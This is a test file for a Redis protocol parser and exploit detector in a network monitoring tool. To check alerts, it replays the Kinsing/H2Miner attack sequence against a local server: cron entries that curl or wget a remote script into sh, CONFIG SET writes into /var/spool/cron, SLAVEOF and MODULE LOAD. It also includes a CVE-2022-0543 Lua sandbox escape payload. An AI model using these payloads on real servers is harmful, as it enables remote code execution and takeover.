import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createConnection, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { createRedisConsumer, parseRedisCommand, type RedisCommandFields } from '../../src/protocols/redis.js';
import { createRedisExploitDetector } from '../../src/detect/redis-exploit.js';
import type { ProtocolMessage } from '../../src/events/detector.js';
import type { DirectionValue } from '../../src/events/flow.js';
import { fakeFlow, msg, recordingContext } from '../detect/fixtures.js';

function resp(...words: string[]): string {
  return `*${words.length}\r\n${words.map((w) => `$${Buffer.byteLength(w, 'latin1')}\r\n${w}\r\n`).join('')}`;
}

/** The Kinsing/H2Miner sequence as published in incident write-ups (addresses are documentation ranges). */
const KINSING = [
  resp('FLUSHALL'),
  resp('SET', 'x1', '\n\n*/1 * * * * curl -fsSL http://192.0.2.10/xm.sh | sh\n\n'),
  resp('SET', 'x2', '\n\n*/2 * * * * wget -q -O- http://192.0.2.10/xm.sh | sh\n\n'),
  resp('CONFIG', 'SET', 'dir', '/var/spool/cron/'),
  resp('CONFIG', 'SET', 'dbfilename', 'root'),
  resp('SAVE'),
  'SLAVEOF 192.0.2.10 8886\r\n',
  resp('MODULE', 'LOAD', '/tmp/exp.so'),
  resp('system.exec', 'id'),
];

function freePort(): Promise<number> {
  return new Promise((res) => { const s = createServer(); s.listen(0, '127.0.0.1', () => { const p = (s.address() as { port: number }).port; s.close(() => res(p)); }); });
}

function needRedis(): false | string {
  if (spawnSync('redis-server', ['--version'], { stdio: 'ignore' }).status === 0) return false;
  const m = 'redis-server not installed (apt-get install redis-server)';
  if (process.env.CI === 'true') throw new Error(`CI=true and ${m}`);
  console.error(`\n*** SKIPPING: ${m} ***\n`);
  return m;
}

void test('redis: exploitation sequence against a private redis-server; parser and redis-exploit detector on the real byte exchange', { skip: needRedis(), timeout: 20000 }, async () => {
  const dir = mkdtempSync(join(tmpdir(), 'mw-redis-'));
  const port = await freePort();
  const srv = spawn('redis-server', ['--port', String(port), '--bind', '127.0.0.1', '--dir', dir, '--save', '', '--appendonly', 'no', '--protected-mode', 'yes'], { stdio: 'ignore' });
  try {
    // Wait for it to listen (bounded).
    let sock: ReturnType<typeof createConnection> | null = null;
    for (let i = 0; i < 50 && !sock; i++) {
      sock = await new Promise((res) => { const s = createConnection({ host: '127.0.0.1', port }); s.once('connect', () => res(s)); s.once('error', () => { setTimeout(() => res(null), 100); }); });
    }
    assert.ok(sock, 'redis-server did not start');
    const exchange: [DirectionValue, Uint8Array][] = [];
    sock.on('data', (d: Buffer) => exchange.push([1, new Uint8Array(d)]));
    for (const cmd of KINSING) {
      const bytes = Buffer.from(cmd, 'latin1');
      exchange.push([0, new Uint8Array(bytes)]);
      sock.write(bytes);
      await new Promise((r) => setTimeout(r, 30));
    }
    await new Promise((r) => setTimeout(r, 100));
    sock.destroy();
    assert.ok(exchange.some(([d]) => d === 1), 'the server answered');

    const msgs: ProtocolMessage[] = [];
    const c = createRedisConsumer((_f, m) => msgs.push(m));
    const flow = fakeFlow({ serverPort: port, serverIp: '127.0.0.1', clientIp: '127.0.0.1' });
    // Port is random: acceptance must come from the bytes.
    assert.ok(c.accepts(flow, 0, exchange[0][1]));
    let t = 1;
    for (const [d, data] of exchange) c.onData(flow, d, data, t++);
    const cmds = msgs.filter((m) => m.kind === 'command').map((m) => (m.fields as unknown as RedisCommandFields).command);
    assert.deepEqual(cmds, ['FLUSHALL', 'SET', 'SET', 'CONFIG', 'CONFIG', 'SAVE', 'SLAVEOF', 'MODULE', 'SYSTEM.EXEC']);
    assert.ok(msgs.some((m) => m.protocol === 'redis' && m.kind === 'reply' && m.fields.ok === true), '+OK replies seen');

    const det = createRedisExploitDetector();
    const ctx = recordingContext();
    for (const m of msgs) if (m.protocol === 'redis') det.onMessage!(m, flow, ctx);
    const sids = ctx.alerts.map((a) => a.alert.signatureId).sort();
    assert.deepEqual(sids, [9100800, 9100801, 9100802, 9100803, 9100804, 9100805, 9100807]);
    const chain = ctx.alerts.find((a) => a.alert.signatureId === 9100805)!.alert;
    assert.equal(chain.evidence.dir, '/var/spool/cron/');
    assert.deepEqual(chain.evidence.payloads, ['*/1 * * * * curl -fsSL http://192.0.2.10/xm.sh | sh', '*/2 * * * * wget -q -O- http://192.0.2.10/xm.sh | sh']);
    assert.equal(chain.device?.ip, '127.0.0.1');
  } finally {
    srv.kill('SIGTERM');
    await new Promise((r) => srv.once('exit', r));
    rmSync(dir, { recursive: true, force: true });
  }
});

void test('redis: ordinary cache traffic raises nothing', () => {
  const msgs: ProtocolMessage[] = [];
  const c = createRedisConsumer((_f, m) => msgs.push(m));
  const flow = fakeFlow({ serverPort: 6379 });
  const data = Buffer.from(resp('SET', 'session:42', '{"user":"bob","ts":1}') + resp('GET', 'session:42') + resp('CONFIG', 'SET', 'maxmemory', '100mb') + 'PING\r\n' + resp('EVAL', 'return redis.call("get", KEYS[1])', '1', 'k'), 'latin1');
  c.onData(flow, 0, data.subarray(0, 17), 1);
  c.onData(flow, 0, data.subarray(17), 2);
  assert.deepEqual(msgs.map((m) => (m.fields as unknown as RedisCommandFields).command), ['SET', 'GET', 'CONFIG', 'PING', 'EVAL']);
  const det = createRedisExploitDetector();
  const ctx = recordingContext();
  for (const m of msgs) if (m.protocol === 'redis') det.onMessage!(m, flow, ctx);
  assert.equal(ctx.alerts.length, 0);
});

void test('redis: Lua sandbox escape EVAL (CVE-2022-0543)', () => {
  const r = parseRedisCommand(Buffer.from(resp('EVAL', 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r")', '0')), 200);
  assert.ok('fields' in r);
  const det = createRedisExploitDetector();
  const ctx = recordingContext();
  det.onMessage!(msg('redis', 'command', (r as { fields: RedisCommandFields }).fields, 0, 1), fakeFlow(), ctx);
  assert.equal(ctx.alerts[0]?.alert.signatureId, 9100806);
});

void test('redis: parser never throws, buffers bounded, oversize commands counted', () => {
  fc.assert(fc.property(fc.array(fc.uint8Array({ maxLength: 600 }), { maxLength: 20 }), (chunks) => {
    const c = createRedisConsumer(() => {});
    const flow = fakeFlow({ serverPort: 6379 });
    for (const d of chunks) c.onData(flow, 0, d, 1);
  }), { numRuns: 300 });
  const c = createRedisConsumer(() => {});
  const flow = fakeFlow({ serverPort: 6379 });
  const big = Buffer.from(`*2\r\n$3\r\nSET\r\n$200000\r\n${'a'.repeat(70000)}`);
  c.onData(flow, 0, big, 1);
  assert.ok(c.malformed.get('command-too-long') >= 1);
});

test('redis: accepts inline commands on any port, but not HTTP requests that start with GET', () => {
  const c = createRedisConsumer(() => {});
  const flow = fakeFlow({ serverPort: 8080, serverIp: '127.0.0.1', clientIp: '127.0.0.1' });
  const bytes = (s: string) => Buffer.from(s, 'latin1');
  assert.equal(c.accepts(flow, 0, bytes('GET session:42\r\n')), true);
  assert.equal(c.accepts(flow, 0, bytes('CONFIG SET dir /var/spool/cron\r\n')), true);
  assert.equal(c.accepts(flow, 0, bytes('GET /index.html HTTP/1.1\r\nHost: example.com\r\n\r\n')), false);
  assert.equal(c.accepts(flow, 0, bytes('get /video/seg-1.ts HTTP/1.0\r\n')), false);
  // Partial request line (the version is in a later segment): still a Redis-looking start.
  assert.equal(c.accepts(flow, 0, bytes('GET /very/long/path')), true);
  // On a Redis port the port decides, whatever the bytes.
  const onRedisPort = fakeFlow({ serverPort: 6379, serverIp: '127.0.0.1', clientIp: '127.0.0.1' });
  assert.equal(c.accepts(onRedisPort, 0, bytes('GET / HTTP/1.1\r\n\r\n')), true);
});

void test('redis: every segmentation of a command stream (blank lines, inline, RESP) yields the same commands', () => {
  const pieces = fc.constantFrom(resp('SET', 'k', 'v\r\nx'), resp('FLUSHALL'), 'PING\r\n', 'CONFIG SET dir /tmp\n', '\n\n\r\n', 'SLAVEOF 192.0.2.1 8886\r\n', resp('GET', 'a'.repeat(300)));
  fc.assert(fc.property(fc.array(pieces, { minLength: 1, maxLength: 12 }), fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 1, maxLength: 40 }), (parts, cuts) => {
    const data = Buffer.from(parts.join(''), 'latin1');
    const commands = (chunks: Uint8Array[]) => {
      const out: string[] = [];
      const c = createRedisConsumer((_f, m) => { if (m.kind === 'command') out.push(JSON.stringify(m.fields)); });
      const flow = fakeFlow({ serverPort: 6379 });
      for (const d of chunks) c.onData(flow, 0, d, 1);
      return out;
    };
    const chunks: Uint8Array[] = [];
    let at = 0;
    for (let i = 0; at < data.length; i++) {
      const n = cuts[i % cuts.length];
      chunks.push(data.subarray(at, at + n));
      at += n;
    }
    assert.deepEqual(commands(chunks), commands([data]));
  }), { numRuns: 400 });
});
